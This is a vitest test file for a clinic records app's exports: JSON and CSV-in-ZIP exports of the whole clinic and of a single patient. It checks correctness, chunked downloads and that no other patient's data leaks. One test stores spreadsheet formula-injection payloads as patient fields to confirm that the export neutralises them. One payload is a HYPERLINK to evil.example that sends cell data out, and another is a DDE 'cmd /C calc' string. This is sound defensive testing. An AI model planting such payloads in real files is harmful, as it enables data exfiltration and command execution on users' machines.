/** Exports: the whole clinic as JSON and as CSV files, a patient's record as JSON; never another patient's data. */
import { spawnSync } from 'node:child_process';
import { unzipSync } from 'fflate';
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import { afterEach, describe, expect, it } from 'vitest';
import type { Backend } from '../../main/backend/backend';
import { openDatabase } from '../../main/db/open';
import type { Db } from '../../main/db/open';
import { TABLE_DOCS } from '../../main/export/format-docs';
import { exportTables } from '../../main/export/tables';
import { createPatient } from '../../main/records/patients';
import { fixedClock } from '../../main/util/clock';
import type { ExportOutcome } from '../../shared/domain/records';
import {
  must,
  patientInput,
  readyBackend,
  removeTempDirs,
  TEST_PASSWORD,
  TEST_TODAY,
  tempDir,
} from '../helpers/backend';
import { clinicKey, databaseAt } from '../helpers/db';
import { fakeDesktop } from '../helpers/records';
import { item } from '../helpers/exercises';
import { MIGRATIONS } from '../../main/db/migrations';

afterEach(removeTempDirs);

/** Reads a download the way the page does: chunk by chunk until done. */
async function download(backend: Backend, outcome: ExportOutcome): Promise<Buffer> {
  if (outcome.kind !== 'download') throw new Error(`expected a download, got ${outcome.kind}`);
  const parts: Buffer[] = [];
  let offset = 0;
  for (;;) {
    const chunk = await must(backend, 'downloads.read', { id: outcome.downloadId, offset });
    parts.push(Buffer.from(chunk.data, 'base64'));
    offset += Buffer.from(chunk.data, 'base64').length;
    if (chunk.done) break;
  }
  const all = Buffer.concat(parts);
  expect(all.length).toBe(outcome.bytes);
  return all;
}

/** A small ZIP reader, independent of the writer: central directory, local headers, CRC-32. */
function unzip(zip: Buffer): Map<string, Buffer> {
  const end = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  expect(end).toBeGreaterThan(0);
  const count = zip.readUInt16LE(end + 10);
  let at = zip.readUInt32LE(end + 16);
  const files = new Map<string, Buffer>();
  for (let i = 0; i < count; i++) {
    expect(zip.readUInt32LE(at)).toBe(0x02014b50);
    const method = zip.readUInt16LE(at + 10);
    const crc = zip.readUInt32LE(at + 16);
    const compressed = zip.readUInt32LE(at + 20);
    const size = zip.readUInt32LE(at + 24);
    const nameLength = zip.readUInt16LE(at + 28);
    const extra = zip.readUInt16LE(at + 30);
    const comment = zip.readUInt16LE(at + 32);
    const local = zip.readUInt32LE(at + 42);
    const name = zip.subarray(at + 46, at + 46 + nameLength).toString('utf8');
    expect(zip.readUInt32LE(local)).toBe(0x04034b50);
    const dataAt = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    const raw = zip.subarray(dataAt, dataAt + compressed);
    const content = method === 8 ? zlib.inflateRawSync(raw) : raw;
    expect(content.length).toBe(size);
    expect(zlib.crc32(content) >>> 0).toBe(crc);
    files.set(name, content);
    at += 46 + nameLength + extra + comment;
  }
  return files;
}

/** A text cell as stored: the export puts one ' in front of text a spreadsheet could run as a formula. */
function withoutFormulaQuote(cell: string | null): string | null {
  return cell !== null && cell.startsWith("'") ? cell.slice(1) : cell;
}

/** RFC 4180, keeping the difference between an empty unquoted field (null) and "" (empty text). */
function parseCsv(text: string): (string | null)[][] {
  const rows: (string | null)[][] = [];
  let row: (string | null)[] = [];
  let i = 0;
  while (i < text.length) {
    let value: string | null;
    if (text[i] === '"') {
      let v = '';
      i += 1;
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') {
          v += '"';
          i += 2;
        } else if (text[i] === '"') {
          i += 1;
          break;
        } else {
          v += text[i];
          i += 1;
        }
      }
      value = v;
    } else {
      let v = '';
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') v += text[i++];
      value = v === '' ? null : v;
    }
    row.push(value);
    if (text[i] === ',') i += 1;
    else if (text[i] === '\r' && text[i + 1] === '\n') {
      rows.push(row);
      row = [];
      i += 2;
    } else if (i < text.length)
      throw new Error(`unexpected character at ${i}: ${JSON.stringify(text.slice(i, i + 10))}`);
  }
  return rows;
}

async function clinic(options: Parameters<typeof readyBackend>[0] = {}) {
  const backend = await readyBackend(options);
  const zoe = await must(
    backend,
    'patients.create',
    patientInput({ notes: 'Line one, "quoted"\r\nline two', phone: '+44 7700 900123' }),
  );
  const an = await must(
    backend,
    'patients.create',
    patientInput({
      givenName: 'An',
      familyName: 'Nguyễn Văn',
      recordNumber: 'RR-0002',
      email: 'an.other@example.org',
      phone: '+84 90 123 4567',
      notes: 'Other-patient-secret-note',
    }),
  );
  await must(backend, 'patients.update', {
    id: an.id,
    expectedVersion: 1,
    changes: patientInput({
      givenName: 'An',
      familyName: 'Nguyễn Văn',
      recordNumber: 'RR-0002',
      email: 'an.other@example.org',
      phone: '+84 90 999 0000',
      notes: 'Other-patient-secret-note',
    }),
  });
  await must(backend, 'episodes.create', {
    patientId: zoe.id,
    diagnosis: 'achilles_tendinopathy',
    diagnosisDetail: ' leading space kept',
    side: 'left',
    onsetDate: null,
  });
  await must(backend, 'episodes.create', {
    patientId: an.id,
    diagnosis: 'other',
    diagnosisDetail: 'Other-patient-secret-diagnosis',
    side: 'right',
    onsetDate: '2026-10-01',
  });
  // Notes, addenda and prescriptions for both, the other patient's full of text that must not leak.
  for (const [episodeId, words] of [
    [1, 'Zoë-own-note'],
    [2, 'Other-patient-secret-soap'],
  ] as const) {
    const note = await must(backend, 'notes.create', { episodeId, visitDate: '2026-11-20' });
    const updated = await must(backend, 'notes.update', {
      id: note.id,
      expectedVersion: note.version,
      visitDate: '2026-11-20',
      content: { subjective: words, objective: '', assessment: '', plan: `${words} plan` },
    });
    await must(backend, 'notes.sign', { id: note.id, expectedVersion: updated.version });
    await must(backend, 'notes.addAddendum', { noteId: note.id, text: `${words} addendum` });
    await must(backend, 'prescriptions.save', {
      episodeId,
      basedOnVersion: null,
      items: [item('ankle-knee-to-wall', undefined, `${words} exercise note`)],
    });
  }
  await must(backend, 'patients.get', { id: an.id });
  const tomas = await must(backend, 'clinicians.create', {
    clinician: { name: 'Tomás Herrera', profession: 'Physiotherapist', registrationNumber: 'HCPC-1' },
    password: 'blue kettle on the hill',
    yourPassword: TEST_PASSWORD,
  });
  return { backend, zoe, an, tomas };
}

async function liveDb(backend: Backend): Promise<Db> {
  return openDatabase(path.join(backend.dataDir, 'clinic.sqlite'), {
    create: false,
    readonly: true,
    key: await clinicKey(backend.dataDir),
  });
}

function exportedRows(db: Db, table: string): unknown[][] {
  const t = exportTables(db).find((x) => x.name === table)!;
  return db
    .prepare(`SELECT ${t.columns.map((c) => `"${c.name}"`).join(', ')} FROM "${table}" ORDER BY rowid`)
    .raw(true)
    .all() as unknown[][];
}

describe('the export format', () => {
  it('describes every column of every table it exports (add descriptions in main/export/format-docs.ts)', () => {
    const db = databaseAt(MIGRATIONS.length);
    const undescribed = exportTables(db).flatMap((t) => [
      ...(t.description === '' ? [`table ${t.name}`] : []),
      ...t.columns.filter((c) => c.description === '').map((c) => `${t.name}.${c.name}`),
    ]);
    expect(undescribed).toEqual([]);
    // Described columns exist (no stale descriptions).
    for (const [table, doc] of Object.entries(TABLE_DOCS)) {
      const cols = (db.pragma(`table_info(${table})`) as { name: string }[]).map((c) => c.name);
      for (const c of [...Object.keys(doc.columns), ...(doc.internal ?? [])])
        expect(cols, `${table}.${c}`).toContain(c);
    }
    db.close();
  });
});

describe('exporting the whole clinic', () => {
  it('as JSON: every table and row, exactly as stored, search internals left out', async () => {
    const { backend } = await clinic();
    const outcome = await must(backend, 'export.clinic', { format: 'json', progressId: 'export-json-1' });
    expect(outcome).toMatchObject({ kind: 'download', mimeType: 'application/json' });
    if (outcome.kind !== 'download') return;
    expect(outcome.fileName).toBe('Riverside Running Clinic export 2026-11-27.json');
    const doc = JSON.parse((await download(backend, outcome)).toString('utf8')) as {
      format: string;
      scope: string;
      encrypted: boolean;
      schemaVersion: number;
      tables: Record<string, { columns: { name: string; description: string }[]; rows: Record<string, unknown>[] }>;
    };
    expect(doc).toMatchObject({
      format: 'stride-clinic-export',
      scope: 'clinic',
      encrypted: false,
      schemaVersion: MIGRATIONS.length,
    });
    const names = Object.keys(doc.tables);
    expect(names).toEqual(
      expect.arrayContaining(['clinic_settings', 'clinicians', 'patients', 'episodes', 'audit_log']),
    );
    expect(names).not.toContain('schema_migrations');
    expect(names.some((n) => n.startsWith('patients_search'))).toBe(false);
    // Parents before children, so an importer can load in order.
    expect(names.indexOf('clinicians')).toBeLessThan(names.indexOf('patients'));
    expect(names.indexOf('patients')).toBeLessThan(names.indexOf('episodes'));
    expect(names.at(-1)).toBe('audit_log');
    const db = await liveDb(backend);
    for (const name of names) {
      const expected = exportedRows(db, name);
      const columns = doc.tables[name]!.columns.map((c) => c.name);
      const got = doc.tables[name]!.rows.map((r) => columns.map((c) => r[c]));
      // The export's own audit entry was written after the snapshot was read.
      expect(got, name).toEqual(name === 'audit_log' ? expected.slice(0, -1) : expected);
    }
    expect(doc.tables.patients!.columns.map((c) => c.name)).not.toContain('search_text');
    expect(doc.tables.patients!.rows[0]!.notes).toBe('Line one, "quoted"\r\nline two');
    expect(db.prepare("SELECT summary FROM audit_log WHERE action = 'export'").pluck().all()).toEqual([
      expect.stringContaining('exported the whole clinic (2 patients'),
    ]);
    db.close();
    // Read once: the download is gone (it was only ever in memory).
    expect(await backend.invoke('downloads.read', { id: outcome.downloadId, offset: 0 })).toMatchObject({
      ok: false,
      error: { code: 'not_found' },
    });
    // Nothing written in clear to the data folder (the audit trail's anchor holds a count, an id,
    // a hash and a time: nothing about patients).
    expect(fs.readdirSync(backend.dataDir).sort()).toEqual([
      'audit-anchor.json',
      'clinic.sqlite',
      'clinic.sqlite-shm',
      'clinic.sqlite-wal',
      'data-folder.json',
      'keys.json',
    ]);
    backend.close();
  });

  it('as CSV files in a ZIP, with a README, lossless once the formula quote is removed (empty text and no value differ)', async () => {
    const { backend } = await clinic();
    const outcome = await must(backend, 'export.clinic', { format: 'csv' });
    if (outcome.kind !== 'download') throw new Error('expected a download');
    expect(outcome.fileName).toBe('Riverside Running Clinic export 2026-11-27 (CSV).zip');
    const zipBytes = await download(backend, outcome);
    const files = unzip(zipBytes);
    const db = await liveDb(backend);
    const tables = exportTables(db);
    expect([...files.keys()]).toEqual([...tables.map((t) => `${t.name}.csv`), 'README.txt']);
    for (const t of tables) {
      const text = files.get(`${t.name}.csv`)!.toString('utf8');
      expect(text.startsWith('\uFEFF')).toBe(true);
      const [head, ...quoted] = parseCsv(text.slice(1));
      expect(head).toEqual(t.columns.map((c) => c.name));
      const rows = quoted.map((r) => r.map(withoutFormulaQuote));
      const expected = exportedRows(db, t.name).map((r) =>
        r.map((v) => (v === null ? null : String(v as string | number))),
      );
      expect(rows, t.name).toEqual(t.name === 'audit_log' ? expected.slice(0, -1) : expected);
    }
    const patients = parseCsv(files.get('patients.csv')!.toString('utf8').slice(1));
    const email = patients[0]!.indexOf('archived_at');
    expect(patients[1]![email]).toBeNull(); // not archived: no value
    const readme = files.get('README.txt')!.toString('utf8');
    expect(readme).toContain('THIS EXPORT IS NOT ENCRYPTED');
    for (const t of tables) expect(readme).toContain(`== ${t.name}.csv ==`);
    expect(readme).toMatch(
      /\r\n {2}created_by +INTEGER, may be null, refers to clinicians\.id\. clinicians\.id of who created it/,
    );
    expect(readme).toMatch(/clinic_settings\.csv +1 row\r\n/);
    db.close();
    // A second reader (fflate's) and the operating system's own unzip agree. CI installs unzip,
    // so there a missing unzip fails the test instead of skipping the check.
    expect(Object.keys(unzipSync(zipBytes))).toEqual([...files.keys()]);
    const file = path.join(tempDir(), 'export.zip');
    fs.writeFileSync(file, zipBytes);
    const check = spawnSync('unzip', ['-t', file], { encoding: 'utf8' });
    if (check.error && process.env.CI) throw new Error(`CI must have unzip installed: ${check.error.message}`);
    if (!check.error) expect(check.stdout).toContain('No errors detected');
    backend.close();
  });

  it('as CSV, no cell a spreadsheet would run as a formula: text starting with = + - @ tab or CR gets a quote, numbers stay numbers', async () => {
    const backend = await readyBackend();
    const hostile = {
      givenName: '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
      familyName: "@SUM(1+1)*cmd|' /C calc'!A0",
      phone: '+44 7700 900123',
      email: '',
      recordNumber: 'RR-0009',
      notes: "-2+3\nand more\n'quoted already",
    };
    const made = await must(backend, 'patients.create', patientInput(hostile));
    const edited = await must(backend, 'patients.update', {
      id: made.id,
      expectedVersion: 1,
      changes: patientInput({ ...hostile, notes: '=1+1 in the notes' }),
    });
    expect(edited.version).toBe(2);
    const outcome = await must(backend, 'export.clinic', { format: 'csv' });
    if (outcome.kind !== 'download') throw new Error('expected a download');
    const files = unzip(await download(backend, outcome));
    const text = files.get('patients.csv')!.toString('utf8');
    const [head, ...rows] = parseCsv(text.slice(1));
    const col = (name: string) => head!.indexOf(name);
    const row = rows.find((r) => r[col('record_number')] === 'RR-0009')!;
    expect(row[col('given_name')]).toBe(`'${hostile.givenName}`);
    expect(row[col('family_name')]).toBe(`'${hostile.familyName}`);
    expect(row[col('phone')]).toBe("'+44 7700 900123");
    expect(row[col('notes')]).toBe("'=1+1 in the notes");
    // Numbers are written as numbers, unquoted and never prefixed.
    expect(text).toMatch(/,2,|,2\r\n/);
    expect(row[col('version')]).toBe('2');
    // No cell of any file begins with a formula character, whichever way it was quoted.
    for (const [name, bytes] of files) {
      if (!name.endsWith('.csv')) continue;
      for (const r of parseCsv(bytes.toString('utf8').slice(1)).slice(1)) {
        for (const cell of r) {
          if (cell === null || /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell)) continue;
          expect(cell, `${name}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
    }
    // Undoing the rule gives the value exactly as stored.
    const stored = await must(backend, 'patients.get', { id: made.id });
    expect(withoutFormulaQuote(row[col('given_name')]!)).toBe(stored.givenName);
    expect(withoutFormulaQuote(row[col('notes')]!)).toBe(stored.notes);
    backend.close();
  });

  it('in chunks when it is large', async () => {
    const backend = await readyBackend();
    const db = openDatabase(path.join(backend.dataDir, 'clinic.sqlite'), {
      create: false,
      key: await clinicKey(backend.dataDir),
    });
    const clock = fixedClock(TEST_TODAY);
    db.transaction(() => {
      for (let i = 0; i < 3000; i++) {
        createPatient(
          db,
          clock,
          1,
          patientInput({ recordNumber: `BULK-${i}`, notes: `Note ${i} ${'x'.repeat(1500)}` }),
        );
      }
    })();
    db.close();
    const outcome = await must(backend, 'export.clinic', { format: 'json' });
    if (outcome.kind !== 'download') throw new Error('expected a download');
    expect(outcome.bytes).toBeGreaterThan(8 << 20);
    const doc = JSON.parse((await download(backend, outcome)).toString('utf8')) as {
      tables: { patients: { rows: unknown[] } };
    };
    expect(doc.tables.patients.rows).toHaveLength(3000);
    backend.close();
  });

  it('drops an export waiting in memory when the records are locked', async () => {
    const { backend } = await clinic();
    const outcome = await must(backend, 'export.clinic', { format: 'json' });
    if (outcome.kind !== 'download') throw new Error('expected a download');
    await must(backend, 'session.lock', {});
    await must(backend, 'session.unlock', { password: TEST_PASSWORD });
    // Whoever unlocks next cannot fetch the unencrypted file made before the lock.
    expect(await backend.invoke('downloads.read', { id: outcome.downloadId, offset: 0 })).toMatchObject({
      ok: false,
      error: { code: 'not_found' },
    });
    backend.close();
  });

  it('on the desktop, where the clinician chose, or not at all when they cancel', async () => {
    const target = path.join(tempDir(), 'clinic.zip');
    let answer: string | null = null;
    const { backend } = await clinic({ platform: fakeDesktop({ save: () => answer }) });
    expect(await must(backend, 'export.clinic', { format: 'csv' })).toEqual({ kind: 'cancelled' });
    expect(fs.readdirSync(path.dirname(target))).toEqual([]);
    answer = target;
    const outcome = await must(backend, 'export.clinic', { format: 'csv' });
    expect(outcome).toMatchObject({ kind: 'saved', file: target });
    expect(unzip(fs.readFileSync(target)).has('patients.csv')).toBe(true);
    expect(fs.readdirSync(path.dirname(target))).toEqual(['clinic.zip']);
    backend.close();
  });
});

describe('exporting one patient’s record', () => {
  it('holds all of their record and none of another patient’s data', async () => {
    const { backend, zoe, an } = await clinic();
    const outcome = await must(backend, 'export.patient', { patientId: zoe.id });
    if (outcome.kind !== 'download') throw new Error('expected a download');
    expect(outcome.fileName).toBe('2026-11-27 Lukasiewicz-Orsted Zoe record.json');
    const text = (await download(backend, outcome)).toString('utf8');
    const doc = JSON.parse(text) as {
      scope: string;
      patient: { id: number };
      tables: Record<string, { rows: Record<string, unknown>[] }>;
    };
    expect(doc).toMatchObject({ scope: 'patient', patient: { id: zoe.id, recordNumber: 'RR-0001' } });
    // Nothing that identifies or describes the other patient, anywhere in the file.
    for (const secret of ['Nguyễn', 'RR-0002', 'an.other@example.org', '+84 90', 'Other-patient-secret']) {
      expect(text.includes(secret), secret).toBe(false);
    }
    // Every row of a patient table belongs to this patient.
    expect(doc.tables.patients!.rows.map((r) => r.id)).toEqual([zoe.id]);
    expect(doc.tables.episodes!.rows.map((r) => r.patient_id)).toEqual([zoe.id]);
    expect(new Set(doc.tables.audit_log!.rows.map((r) => r.patient_id))).toEqual(new Set([zoe.id]));
    // ...and all of their record is there.
    const db = await liveDb(backend);
    // (All but the entry recording this export, written after it.)
    const entries = db.prepare('SELECT count(*) FROM audit_log WHERE patient_id = ?').pluck().get(zoe.id) as number;
    expect(doc.tables.audit_log!.rows.length).toBe(entries - 1);
    expect(doc.tables.patients!.rows[0]!.notes).toBe('Line one, "quoted"\r\nline two');
    // Context: the clinic, and only the clinicians named in this record (not Tomás).
    expect(doc.tables.clinic_settings!.rows).toHaveLength(1);
    expect(doc.tables.clinicians!.rows.map((r) => r.name)).toEqual(['Priya Shah']);
    // Everything that leads to the patient is there; clinic-wide tables are not.
    expect(Object.keys(doc.tables)).toEqual(
      expect.arrayContaining([
        'patients',
        'episodes',
        'audit_log',
        'clinical_notes',
        'note_addenda',
        'prescriptions',
        'prescription_items',
        'intakes',
        'programme_assignments',
        'check_ins',
        'handouts',
      ]),
    );
    for (const clinicWide of [
      'exercise_images',
      'clinic_exercises',
      'prescription_templates',
      'rule_set_versions',
      'programme_versions',
    ]) {
      expect(Object.keys(doc.tables)).not.toContain(clinicWide);
    }
    for (const own of ['Zoë-own-note plan', 'Zoë-own-note addendum', 'Zoë-own-note exercise note']) {
      expect(text.includes(own), own).toBe(true);
    }
    expect(doc.tables.note_addenda!.rows).toHaveLength(1);
    expect(doc.tables.prescription_items!.rows).toHaveLength(1);
    const audit = db.prepare("SELECT patient_id, summary FROM audit_log WHERE action = 'export'").all();
    expect(audit).toEqual([
      {
        patient_id: zoe.id,
        summary: expect.stringContaining(
          'exported the full record of Zoë Łukasiewicz-Ørsted as JSON (not encrypted)',
        ) as string,
      },
    ]);
    db.close();
    void an;
    backend.close();
  });

  it('refuses a patient that does not exist', async () => {
    const { backend } = await clinic();
    expect(await backend.invoke('export.patient', { patientId: 999 })).toMatchObject({
      ok: false,
      error: { code: 'not_found' },
    });
    backend.close();
  });
});
